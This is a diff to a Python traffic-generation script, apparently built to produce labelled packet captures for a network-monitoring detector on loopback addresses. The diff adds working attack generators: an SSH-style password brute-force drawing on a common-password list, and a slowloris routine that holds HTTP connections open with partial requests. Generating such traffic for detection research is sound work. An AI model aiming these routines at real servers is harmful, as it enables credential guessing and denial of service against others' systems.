@@ -7,6 +7,10 @@ Standard library only (the script runs it with ``python3``; the project's venv w
     label_capture.py wait --addr A --tcp P [P ..]  # until those TCP ports accept connections
     label_capture.py benign --server A ...         # benign clients, each from its own address
     label_capture.py http-flood --src S ...        # HTTP GET flood from one address, bounded rate
+    label_capture.py brute-force --src S ...       # many short logins to the SSH-like server
+    label_capture.py slowloris --src S ...         # HTTP connections held open with partial requests
+    label_capture.py discard --addr A --port P     # a TCP listener that reads and discards
+    label_capture.py bulk --src S ...              # one large transfer to a discard listener
     label_capture.py label --pcap F --phases P --out labels.csv
 
 Addresses: every generator binds its own source address in 127.0.0.0/8 (all of it is local on
@@ -218,8 +222,10 @@ def _resp(*parts: str) -> bytes:
     return b"".join(out)
 
 
-def redis_client(src: str, host: str, port: int, rng: random.Random, stop: threading.Event) -> None:
-    """An application talking to Redis db 14: PING, GET and SET (with expiry) on its own keys.
+def redis_client(
+    src: str, host: str, port: int, rng: random.Random, stop: threading.Event, db: int = 11
+) -> None:
+    """An application talking to Redis database ``db``: PING, GET and SET (with expiry) on its own keys.
 
     ``src`` is ``ADDRESS:PORT``: Redis in protected mode (no password) only accepts 127.0.0.1, so
     Redis clients are told apart by their source port instead (outside the ephemeral range, the
@@ -236,9 +242,9 @@ def redis_client(src: str, host: str, port: int, rng: random.Random, stop: threa
             tries += 1
             sock.connect((host, port))
             sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-            sock.sendall(_resp("SELECT", "14"))
+            sock.sendall(_resp("SELECT", str(db)))
             if not sock.recv(4096).startswith(b"+OK"):
-                raise OSError("redis refused SELECT 14")
+                raise OSError(f"redis refused SELECT {db}")
             while not stop.wait(rng.expovariate(1 / 0.08)):
                 key = f"netmon:bench:{first}:{rng.randint(1, 50)}"
                 op = rng.random()
@@ -326,7 +332,8 @@ def cmd_benign(args: argparse.Namespace) -> None:
         jobs.append((ssh_client, src, args.server, args.ssh_port))
     for fn, src, host, port in jobs:
         r = random.Random(rng.getrandbits(64))
-        threading.Thread(target=fn, args=(src, host, port, r, stop), daemon=True).start()
+        extra = {"db": args.redis_db} if fn is redis_client else {}
+        threading.Thread(target=fn, args=(src, host, port, r, stop), kwargs=extra, daemon=True).start()
     print(f"benign: {len(jobs)} clients", flush=True)
     with contextlib.suppress(KeyboardInterrupt):
         stop.wait(args.seconds if args.seconds > 0 else None)
@@ -338,40 +345,146 @@ def cmd_benign(args: argparse.Namespace) -> None:
 
 def cmd_http_flood(args: argparse.Namespace) -> None:
     """GET requests from ``--src`` at up to ``--rate`` per second for ``--seconds``, several threads."""
-    end = time.monotonic() + args.seconds
+    paths = ["/", "/index.html", "/search.html", "/login.html"]
+
+    def request() -> None:
+        conn = http.client.HTTPConnection(args.host, args.port, timeout=3, source_address=(args.src, 0))
+        conn.request("GET", random.choice(paths), headers={"User-Agent": "flood/1.0"})
+        conn.getresponse().read()
+        conn.close()
+
+    done, failed = _paced(args.rate, args.seconds, args.threads, request)
+    print(f"http-flood: {done} requests, {failed} failed", flush=True)
+
+
+def _paced(rate: float, seconds: float, threads: int, job) -> tuple[int, int]:
+    """``job()`` up to ``rate`` times a second for ``seconds`` from ``threads`` threads: (done, failed)."""
+    end = time.monotonic() + seconds
     lock = threading.Lock()
     state = {"next": time.monotonic(), "done": 0, "failed": 0}
-    paths = ["/", "/index.html", "/search.html", "/login.html"]
 
     def worker() -> None:
         while True:
             with lock:
                 slot = state["next"]
-                state["next"] = max(slot, time.monotonic() - 0.05) + 1.0 / args.rate
+                state["next"] = max(slot, time.monotonic() - 0.05) + 1.0 / rate
             if slot >= end:
                 return
             delay = slot - time.monotonic()
             if delay > 0:
                 time.sleep(delay)
             try:
-                conn = http.client.HTTPConnection(
-                    args.host, args.port, timeout=3, source_address=(args.src, 0)
-                )
-                conn.request("GET", random.choice(paths), headers={"User-Agent": "flood/1.0"})
-                conn.getresponse().read()
-                conn.close()
+                job()
                 key = "done"
             except OSError:
                 key = "failed"
             with lock:
                 state[key] += 1
 
-    threads = [threading.Thread(target=worker) for _ in range(args.threads)]
-    for t in threads:
+    pool = [threading.Thread(target=worker) for _ in range(threads)]
+    for t in pool:
         t.start()
-    for t in threads:
+    for t in pool:
         t.join()
-    print(f"http-flood: {state['done']} requests, {state['failed']} failed", flush=True)
+    return state["done"], state["failed"]
+
+
+PASSWORDS = ["123456", "password", "admin", "root", "letmein", "qwerty", "toor", "changeme", "dragon"]
+
+
+def cmd_brute_force(args: argparse.Namespace) -> None:
+    """Login attempts on the SSH-like server: connect, banner, a user and password line, close."""
+
+    def attempt() -> None:
+        with _bound_tcp(args.src, args.host, args.port, timeout=3) as sock:
+            sock.recv(256)
+            sock.sendall(b"SSH-2.0-libssh2_1.10.0\r\n")
+            sock.sendall(f"root:{random.choice(PASSWORDS)}{random.randint(0, 999)}\r".encode())
+            sock.settimeout(0.2)
+            with contextlib.suppress(TimeoutError):
+                sock.recv(65536)
+
+    done, failed = _paced(args.rate, args.seconds, args.threads, attempt)
+    print(f"brute-force: {done} attempts, {failed} failed", flush=True)
+
+
+def cmd_slowloris(args: argparse.Namespace) -> None:
+    """``--connections`` HTTP connections opened at ``--open-rate``/s, each with a partial request,
+    then one more header line every ``--interval`` seconds; all closed after ``--seconds``."""
+    end = time.monotonic() + args.seconds
+    conns: list[socket.socket | None] = []
+    failed = 0
+    next_open = time.monotonic()
+    last_sent: list[float] = []
+    while time.monotonic() < end:
+        now = time.monotonic()
+        while len(conns) < args.connections and next_open <= now:
+            next_open += 1.0 / args.open_rate
+            try:
+                sock = _bound_tcp(args.src, args.host, args.port, timeout=2)
+                sock.sendall(
+                    f"GET /?{random.randint(0, 99999)} HTTP/1.1\r\nHost: {args.host}\r\n"
+                    "User-Agent: Mozilla/5.0\r\n".encode()
+                )
+                conns.append(sock)
+                last_sent.append(now)
+            except OSError:
+                failed += 1
+        for k, sock in enumerate(conns):
+            if sock is not None and now - last_sent[k] >= args.interval:
+                try:
+                    sock.sendall(f"X-a-{random.randint(0, 9999)}: {random.randint(0, 9999)}\r\n".encode())
+                    last_sent[k] = now
+                except OSError:
+                    sock.close()
+                    conns[k] = None
+        time.sleep(0.02)
+    held = sum(1 for c in conns if c is not None)
+    for sock in conns:
+        if sock is not None:
+            sock.close()
+    print(f"slowloris: {len(conns)} connections opened ({held} held to the end), {failed} failed", flush=True)
+
+
+def cmd_discard(args: argparse.Namespace) -> None:
+    """A TCP listener that reads and discards whatever it is sent (the bulk transfer's receiver)."""
+    server = socket.create_server((args.addr, args.port), reuse_port=False)
+    server.settimeout(1.0)
+    deadline = time.monotonic() + args.seconds if args.seconds > 0 else None
+
+    def drain(conn: socket.socket) -> None:
+        with conn:
+            conn.settimeout(30)
+            with contextlib.suppress(OSError):
+                while conn.recv(1 << 20):
+                    pass
+
+    print(f"discard: tcp {args.addr}:{args.port}", flush=True)
+    with contextlib.suppress(KeyboardInterrupt):
+        while deadline is None or time.monotonic() < deadline:
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            threading.Thread(target=drain, args=(conn,), daemon=True).start()
+
+
+def cmd_bulk(args: argparse.Namespace) -> None:
+    """``--megabytes`` MB to ``--host``:``--port`` on one connection, paced evenly over ``--seconds``."""
+    total = int(args.megabytes * 1_000_000)
+    chunk = os.urandom(1 << 16)
+    started = time.monotonic()
+    sent = 0
+    with _bound_tcp(args.src, args.host, args.port, timeout=10) as sock:
+        while sent < total:
+            due = started + args.seconds * sent / total
+            delay = due - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            sock.sendall(chunk[: min(len(chunk), total - sent)])
+            sent += min(len(chunk), total - sent)
+        sock.shutdown(socket.SHUT_WR)
+    print(f"bulk: {sent / 1e6:.1f} MB in {time.monotonic() - started:.1f} s", flush=True)
 
 
 # ------------------------------------------------------------------------------------- labeling
@@ -453,6 +566,7 @@ def main(argv: list[str] | None = None) -> None:
     p.add_argument("--udp-port", type=int, default=5353)
     p.add_argument("--ssh-port", type=int, default=2222)
     p.add_argument("--redis", default="127.0.0.1:6379")
+    p.add_argument("--redis-db", type=int, default=11, help="the Redis database the Redis clients use")
     p.add_argument("--http-src", nargs="*", default=[])
     p.add_argument("--redis-src", nargs="*", default=[])
     p.add_argument("--dns-src", nargs="*", default=[])
@@ -469,6 +583,39 @@ def main(argv: list[str] | None = None) -> None:
     p.add_argument("--threads", type=int, default=8)
     p.add_argument("--seconds", type=float, default=5.0)
     p.set_defaults(fn=cmd_http_flood)
+
+    p = sub.add_parser("brute-force", help="short logins to the SSH-like server from one address")
+    p.add_argument("--src", required=True)
+    p.add_argument("--host", default="127.0.0.2")
+    p.add_argument("--port", type=int, default=2222)
+    p.add_argument("--rate", type=float, default=30.0, help="attempts per second at most")
+    p.add_argument("--threads", type=int, default=4)
+    p.add_argument("--seconds", type=float, default=5.0)
+    p.set_defaults(fn=cmd_brute_force)
+
+    p = sub.add_parser("slowloris", help="HTTP connections held open with partial requests")
+    p.add_argument("--src", required=True)
+    p.add_argument("--host", default="127.0.0.2")
+    p.add_argument("--port", type=int, default=8081)
+    p.add_argument("--connections", type=int, default=300)
+    p.add_argument("--open-rate", type=float, default=150.0, help="new connections per second")
+    p.add_argument("--interval", type=float, default=2.0, help="seconds between header lines")
+    p.add_argument("--seconds", type=float, default=10.0)
+    p.set_defaults(fn=cmd_slowloris)
+
+    p = sub.add_parser("discard", help="a TCP listener that reads and discards")
+    p.add_argument("--addr", default="127.0.0.2")
+    p.add_argument("--port", type=int, default=40404)
+    p.add_argument("--seconds", type=float, default=0.0, help="0: until interrupted")
+    p.set_defaults(fn=cmd_discard)
+
+    p = sub.add_parser("bulk", help="one large transfer to a discard listener")
+    p.add_argument("--src", required=True)
+    p.add_argument("--host", default="127.0.0.2")
+    p.add_argument("--port", type=int, default=40404)
+    p.add_argument("--megabytes", type=float, default=64.0)
+    p.add_argument("--seconds", type=float, default=4.0)
+    p.set_defaults(fn=cmd_bulk)
 
     p = sub.add_parser("label", help="write labels.csv for a capture from the attack phases")
     p.add_argument("--pcap", required=True)
